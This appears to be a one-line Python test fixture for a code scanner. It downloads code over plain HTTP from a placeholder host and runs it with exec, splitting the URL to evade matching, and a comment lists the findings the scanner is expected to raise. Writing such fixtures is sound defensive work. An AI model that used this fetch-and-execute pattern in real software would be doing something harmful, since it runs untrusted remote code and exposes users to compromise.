import urllib.request

exec(urllib.request.urlopen("ht" + "tp:" + "//cdn.acme.test/stage").read())  # expect: url-analyzer/cleartext-download, malicious-command/remote-eval
